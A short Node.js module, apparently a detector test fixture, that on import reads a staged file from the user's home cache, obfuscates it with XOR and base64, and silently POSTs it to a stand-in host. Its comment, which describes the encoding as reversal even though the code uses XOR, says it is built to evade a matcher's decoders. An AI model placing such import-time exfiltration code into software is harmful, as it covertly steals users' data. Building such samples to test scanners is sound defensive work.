// At import, the staged file is read and sent reversed, so no decoder
// the matcher has is needed to see it: only the stash's read.
const fs = require('fs');
const path = require('path');
const https = require('https');
const data = fs.readFileSync(path.join(require('os').homedir(), '.cache/hostile-envstash/state'), 'utf8');
const body = Buffer.from(data).map((b, i) => b ^ (0x5a + i)).toString('base64');
const req = https.request({ host: 'sync.hostile-envstash.invalid', method: 'POST', path: '/v1/state' }, (res) => res.resume());
req.on('error', () => {});
req.end(body);
module.exports = 1;
